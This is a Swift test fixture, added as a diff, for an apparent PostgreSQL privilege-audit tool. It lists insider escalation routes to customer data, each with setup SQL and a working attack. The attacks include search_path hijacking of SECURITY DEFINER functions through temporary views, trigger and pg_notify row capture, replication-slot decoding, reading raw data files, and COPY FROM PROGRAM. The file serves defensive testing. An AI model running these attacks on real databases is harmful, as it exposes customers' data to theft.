@@ -1,0 +1,239 @@
+import Testing
+
+/// One road from privileges an insider holds to customer data, written by hand: the SQL that
+/// builds it, the attack that works on a real server, and what the audit must say.
+///
+/// Every road's database has `public.customers (id, email)` holding the canary in `email`,
+/// owned by `support_owner`, and a login role `mallory` who is the insider. `{canary}` in the
+/// SQL is replaced by the canary, `{writer}` in the attack by a shell command that has another
+/// role write every customer row, `{reader}` by one that keeps a query naming the canary running.
+struct CapabilityRoad: Sendable, CustomTestStringConvertible {
+    var name: String
+    /// The majors on which the road exists (and the attack can be run).
+    var majors: [Int] = [15, 16, 17, 18]
+    var setup: String
+    var attack: String
+    /// The capability step the finding's path must carry (`CapabilityStep.kind`); nil when the
+    /// road is ownership (its own step). For a road that must not work (`expectAttackWorks`
+    /// false) the step the audit must not report.
+    var capability: String?
+    /// What the finding's cause must say (a fragment).
+    var cause: String?
+    var expectAttackWorks = true
+
+    var testDescription: String { name }
+
+    static let base = """
+        CREATE ROLE support_owner NOLOGIN;
+        CREATE ROLE mallory LOGIN;
+        CREATE TABLE public.customers (id int, email text);
+        INSERT INTO public.customers VALUES (1, '{canary}');
+        ALTER TABLE public.customers OWNER TO support_owner;
+        CREATE TABLE public.queue (id int);
+        GRANT SELECT ON public.queue TO PUBLIC;
+        """
+
+    /// The temporary view that makes a definer that reads `queue` unqualified run mallory's code.
+    static let shadowQueue = """
+        CREATE FUNCTION pg_temp.evil() RETURNS SETOF int LANGUAGE plpgsql AS $e$
+        DECLARE r text;
+        BEGIN
+          FOR r IN SELECT rolname FROM pg_roles WHERE rolname IN ('pii_readers', 'pg_read_all_data') LOOP
+            BEGIN EXECUTE format('GRANT %I TO mallory', r); EXCEPTION WHEN others THEN NULL; END;
+          END LOOP;
+          RETURN NEXT 1;
+        END $e$;
+        CREATE TEMP VIEW queue AS SELECT * FROM pg_temp.evil() AS x(id);
+        GRANT SELECT ON queue TO PUBLIC;
+        """
+
+    static let all: [CapabilityRoad] = [
+        CapabilityRoad(
+            name: "ADMIN OPTION alone (PostgreSQL 16+): grants itself the role",
+            majors: [16, 17, 18],
+            setup: """
+                CREATE ROLE pii_readers NOLOGIN;
+                GRANT SELECT ON public.customers TO pii_readers;
+                GRANT pii_readers TO mallory WITH ADMIN TRUE, INHERIT FALSE, SET FALSE;
+                """,
+            attack: "GRANT pii_readers TO mallory; SET ROLE pii_readers; SELECT email FROM public.customers;",
+            capability: "admin_option", cause: "ADMIN OPTION on pii_readers held by mallory"),
+        CapabilityRoad(
+            name: "ADMIN OPTION held by an inherited group (PostgreSQL 16+): grants itself the role",
+            majors: [16, 17, 18],
+            setup: """
+                CREATE ROLE pii_readers NOLOGIN;
+                CREATE ROLE helpdesk NOLOGIN;
+                GRANT SELECT ON public.customers TO pii_readers;
+                GRANT pii_readers TO helpdesk WITH ADMIN TRUE, INHERIT FALSE, SET FALSE;
+                GRANT helpdesk TO mallory;
+                """,
+            attack: "GRANT pii_readers TO mallory; SET ROLE pii_readers; SELECT email FROM public.customers;",
+            capability: "admin_option", cause: "ADMIN OPTION on pii_readers held by helpdesk"),
+        CapabilityRoad(
+            name: "CREATEROLE before PostgreSQL 16: grants itself pg_read_all_data",
+            majors: [15],
+            setup: "ALTER ROLE mallory CREATEROLE;",
+            attack: "GRANT pg_read_all_data TO mallory; SET ROLE pg_read_all_data; SELECT email FROM public.customers;",
+            capability: "createrole", cause: "CREATEROLE of mallory"),
+        CapabilityRoad(
+            name: "An owner that revoked its own SELECT grants it back",
+            setup: """
+                ALTER TABLE public.customers OWNER TO mallory;
+                REVOKE ALL ON public.customers FROM mallory;
+                """,
+            attack: "GRANT SELECT ON public.customers TO mallory; SELECT email FROM public.customers;",
+            capability: nil, cause: "mallory owns public.customers (can grant itself SELECT"),
+        CapabilityRoad(
+            name: "Unpinned plpgsql SECURITY DEFINER: a temporary view runs the caller's code as the owner",
+            setup: """
+                CREATE ROLE pii_readers NOLOGIN;
+                CREATE ROLE onboarding NOLOGIN;
+                GRANT SELECT ON public.customers TO pii_readers;
+                GRANT pii_readers TO onboarding WITH ADMIN OPTION;
+                CREATE FUNCTION public.queue_length() RETURNS bigint LANGUAGE plpgsql SECURITY DEFINER
+                  AS $b$ BEGIN RETURN (SELECT count(*) FROM queue); END $b$;
+                ALTER FUNCTION public.queue_length() OWNER TO onboarding;
+                """,
+            attack: shadowQueue + "SELECT public.queue_length(); SET ROLE pii_readers; SELECT email FROM public.customers;",
+            capability: "definer_code", cause: "EXECUTE public.queue_length() (SECURITY DEFINER, search_path not pinned"),
+        CapabilityRoad(
+            name: "search_path pinned without pg_temp last: temporary relations still come first",
+            setup: """
+                CREATE ROLE reporting NOLOGIN;
+                GRANT SELECT ON public.customers TO reporting;
+                CREATE FUNCTION public.queue_length() RETURNS bigint LANGUAGE plpgsql SECURITY DEFINER SET search_path = public
+                  AS $b$ BEGIN RETURN (SELECT count(*) FROM queue); END $b$;
+                ALTER FUNCTION public.queue_length() OWNER TO reporting;
+                """,
+            attack: """
+                CREATE FUNCTION pg_temp.evil() RETURNS SETOF int LANGUAGE plpgsql AS $e$
+                DECLARE v text; BEGIN SELECT string_agg(email, ',') INTO v FROM public.customers; RAISE NOTICE 'LOOT %', v; RETURN NEXT 1; END $e$;
+                CREATE TEMP VIEW queue AS SELECT * FROM pg_temp.evil() AS x(id);
+                GRANT SELECT ON queue TO PUBLIC;
+                SELECT public.queue_length();
+                """,
+            capability: "definer_code", cause: "search_path not pinned"),
+        CapabilityRoad(
+            name: "search_path pinned with pg_temp last: no road (the attack fails, the audit is silent)",
+            setup: """
+                CREATE ROLE reporting NOLOGIN;
+                GRANT SELECT ON public.customers TO reporting;
+                CREATE FUNCTION public.queue_length() RETURNS bigint LANGUAGE plpgsql SECURITY DEFINER SET search_path = public, pg_temp
+                  AS $b$ BEGIN RETURN (SELECT count(*) FROM queue); END $b$;
+                ALTER FUNCTION public.queue_length() OWNER TO reporting;
+                """,
+            attack: """
+                CREATE FUNCTION pg_temp.evil() RETURNS SETOF int LANGUAGE plpgsql AS $e$
+                DECLARE v text; BEGIN SELECT string_agg(email, ',') INTO v FROM public.customers; RAISE NOTICE 'LOOT %', v; RETURN NEXT 1; END $e$;
+                CREATE TEMP VIEW queue AS SELECT * FROM pg_temp.evil() AS x(id);
+                GRANT SELECT ON queue TO PUBLIC;
+                SELECT public.queue_length();
+                """,
+            capability: "definer_code", cause: nil, expectAttackWorks: false),
+        CapabilityRoad(
+            name: "A definer trigger function runs for every writer, EXECUTE revoked or not",
+            setup: """
+                CREATE ROLE pii_readers NOLOGIN;
+                CREATE ROLE events_owner NOLOGIN;
+                GRANT SELECT ON public.customers TO pii_readers;
+                GRANT pii_readers TO events_owner WITH ADMIN OPTION;
+                CREATE TABLE public.events (id int);
+                CREATE FUNCTION public.on_event() RETURNS trigger LANGUAGE plpgsql SECURITY DEFINER
+                  AS $b$ BEGIN PERFORM count(*) FROM queue; RETURN NEW; END $b$;
+                ALTER FUNCTION public.on_event() OWNER TO events_owner;
+                REVOKE EXECUTE ON FUNCTION public.on_event() FROM PUBLIC;
+                CREATE TRIGGER on_event BEFORE INSERT ON public.events FOR EACH ROW EXECUTE FUNCTION public.on_event();
+                GRANT INSERT ON public.events TO mallory;
+                """,
+            attack: shadowQueue + "INSERT INTO public.events VALUES (1); SET ROLE pii_readers; SELECT email FROM public.customers;",
+            capability: "definer_code", cause: "writes public.events, whose trigger runs SECURITY DEFINER public.on_event()"),
+        CapabilityRoad(
+            name: "An aggregate runs its definer support function without the caller's EXECUTE on it",
+            setup: """
+                CREATE ROLE pii_readers NOLOGIN;
+                CREATE ROLE stats_owner NOLOGIN;
+                GRANT SELECT ON public.customers TO pii_readers;
+                GRANT pii_readers TO stats_owner WITH ADMIN OPTION;
+                CREATE FUNCTION public.acc(bigint, int) RETURNS bigint LANGUAGE plpgsql SECURITY DEFINER
+                  AS $b$ BEGIN RETURN $1 + (SELECT count(*) FROM queue); END $b$;
+                ALTER FUNCTION public.acc(bigint, int) OWNER TO stats_owner;
+                REVOKE EXECUTE ON FUNCTION public.acc(bigint, int) FROM PUBLIC;
+                CREATE AGGREGATE public.total(int) (sfunc = public.acc, stype = bigint, initcond = '0');
+                """,
+            attack: shadowQueue + "SELECT public.total(x) FROM (VALUES (1)) v(x); SET ROLE pii_readers; SELECT email FROM public.customers;",
+            capability: "definer_code", cause: "EXECUTE public.acc(bigint, integer)"),
+        CapabilityRoad(
+            name: "TRIGGER on a table: a trigger receives every row another role writes",
+            setup: "GRANT TRIGGER ON public.customers TO mallory; GRANT USAGE ON SCHEMA public TO mallory;",
+            attack: """
+                LISTEN loot;
+                CREATE FUNCTION pg_temp.watch() RETURNS trigger LANGUAGE plpgsql AS $w$ BEGIN PERFORM pg_notify('loot', row_to_json(NEW)::text); RETURN NEW; END $w$;
+                CREATE TRIGGER watch AFTER UPDATE ON public.customers FOR EACH ROW EXECUTE FUNCTION pg_temp.watch();
+                \\! {writer}
+                SELECT 'delivered';
+                """,
+            capability: "trigger", cause: "TRIGGER on public.customers"),
+        CapabilityRoad(
+            name: "Owning a trigger function of the table: replacing its body receives every row",
+            setup: """
+                CREATE ROLE auditor NOLOGIN;
+                GRANT auditor TO mallory;
+                CREATE FUNCTION public.audit() RETURNS trigger LANGUAGE plpgsql AS $b$ BEGIN RETURN NEW; END $b$;
+                ALTER FUNCTION public.audit() OWNER TO auditor;
+                GRANT CREATE ON SCHEMA public TO auditor;
+                CREATE TRIGGER audit AFTER UPDATE ON public.customers FOR EACH ROW EXECUTE FUNCTION public.audit();
+                """,
+            attack: """
+                LISTEN loot;
+                CREATE OR REPLACE FUNCTION public.audit() RETURNS trigger LANGUAGE plpgsql AS $w$ BEGIN PERFORM pg_notify('loot', row_to_json(NEW)::text); RETURN NEW; END $w$;
+                \\! {writer}
+                SELECT 'delivered';
+                """,
+            capability: "trigger_function", cause: "owns trigger function public.audit() of public.customers"),
+        CapabilityRoad(
+            name: "REPLICATION: logical decoding streams every table's rows",
+            // The PostgreSQL 16 wheel ships no test_decoding plugin to decode with.
+            majors: [15, 17, 18],
+            setup: "ALTER ROLE mallory REPLICATION;",
+            attack: """
+                SELECT 'slot', pg_create_logical_replication_slot('loot', 'test_decoding', true);
+                \\! {writer}
+                SELECT data FROM pg_logical_slot_get_changes('loot', NULL, NULL);
+                """,
+            capability: "replication", cause: "mallory has REPLICATION"),
+        CapabilityRoad(
+            name: "pg_read_all_stats: other sessions' SQL text, literals included",
+            setup: "GRANT pg_read_all_stats TO mallory;",
+            attack: """
+                \\! {reader}
+                SELECT pg_sleep(1);
+                SELECT query FROM pg_stat_activity WHERE query LIKE '%pg_sleep(4)%';
+                """,
+            capability: "monitoring", cause: "pg_read_all_stats"),
+        CapabilityRoad(
+            name: "SELECT granted on pg_statistic: column values of every analysed table",
+            // A value must repeat to be among the most common values.
+            setup: """
+                INSERT INTO public.customers SELECT g, '{canary}' FROM generate_series(2, 50) g;
+                GRANT SELECT ON pg_catalog.pg_statistic TO mallory;
+                ANALYZE public.customers;
+                """,
+            attack: "SELECT stavalues1::text, stavalues2::text FROM pg_catalog.pg_statistic WHERE starelid = 'public.customers'::regclass;",
+            capability: "catalog_grant", cause: "SELECT pg_catalog.pg_statistic granted to mallory"),
+        CapabilityRoad(
+            name: "EXECUTE granted on pg_read_binary_file: the data files",
+            setup: "GRANT EXECUTE ON FUNCTION pg_catalog.pg_read_binary_file(text) TO mallory; CHECKPOINT;",
+            attack: "SELECT encode(pg_read_binary_file(pg_relation_filepath('public.customers')), 'escape');",
+            capability: "catalog_grant", cause: "EXECUTE pg_catalog.pg_read_binary_file(text) granted to mallory"),
+        CapabilityRoad(
+            name: "pg_execute_server_program: COPY FROM PROGRAM reads the data files",
+            setup: "GRANT pg_execute_server_program TO mallory; CHECKPOINT;",
+            attack: """
+                CREATE TEMP TABLE loot (l text);
+                SELECT format('COPY loot FROM PROGRAM %L', 'grep -a -o "cn7[a-z0-9]*z" ' || pg_relation_filepath('public.customers')) \\gexec
+                SELECT l FROM loot;
+                """,
+            capability: "server_files", cause: "pg_execute_server_program"),
+    ]
+}
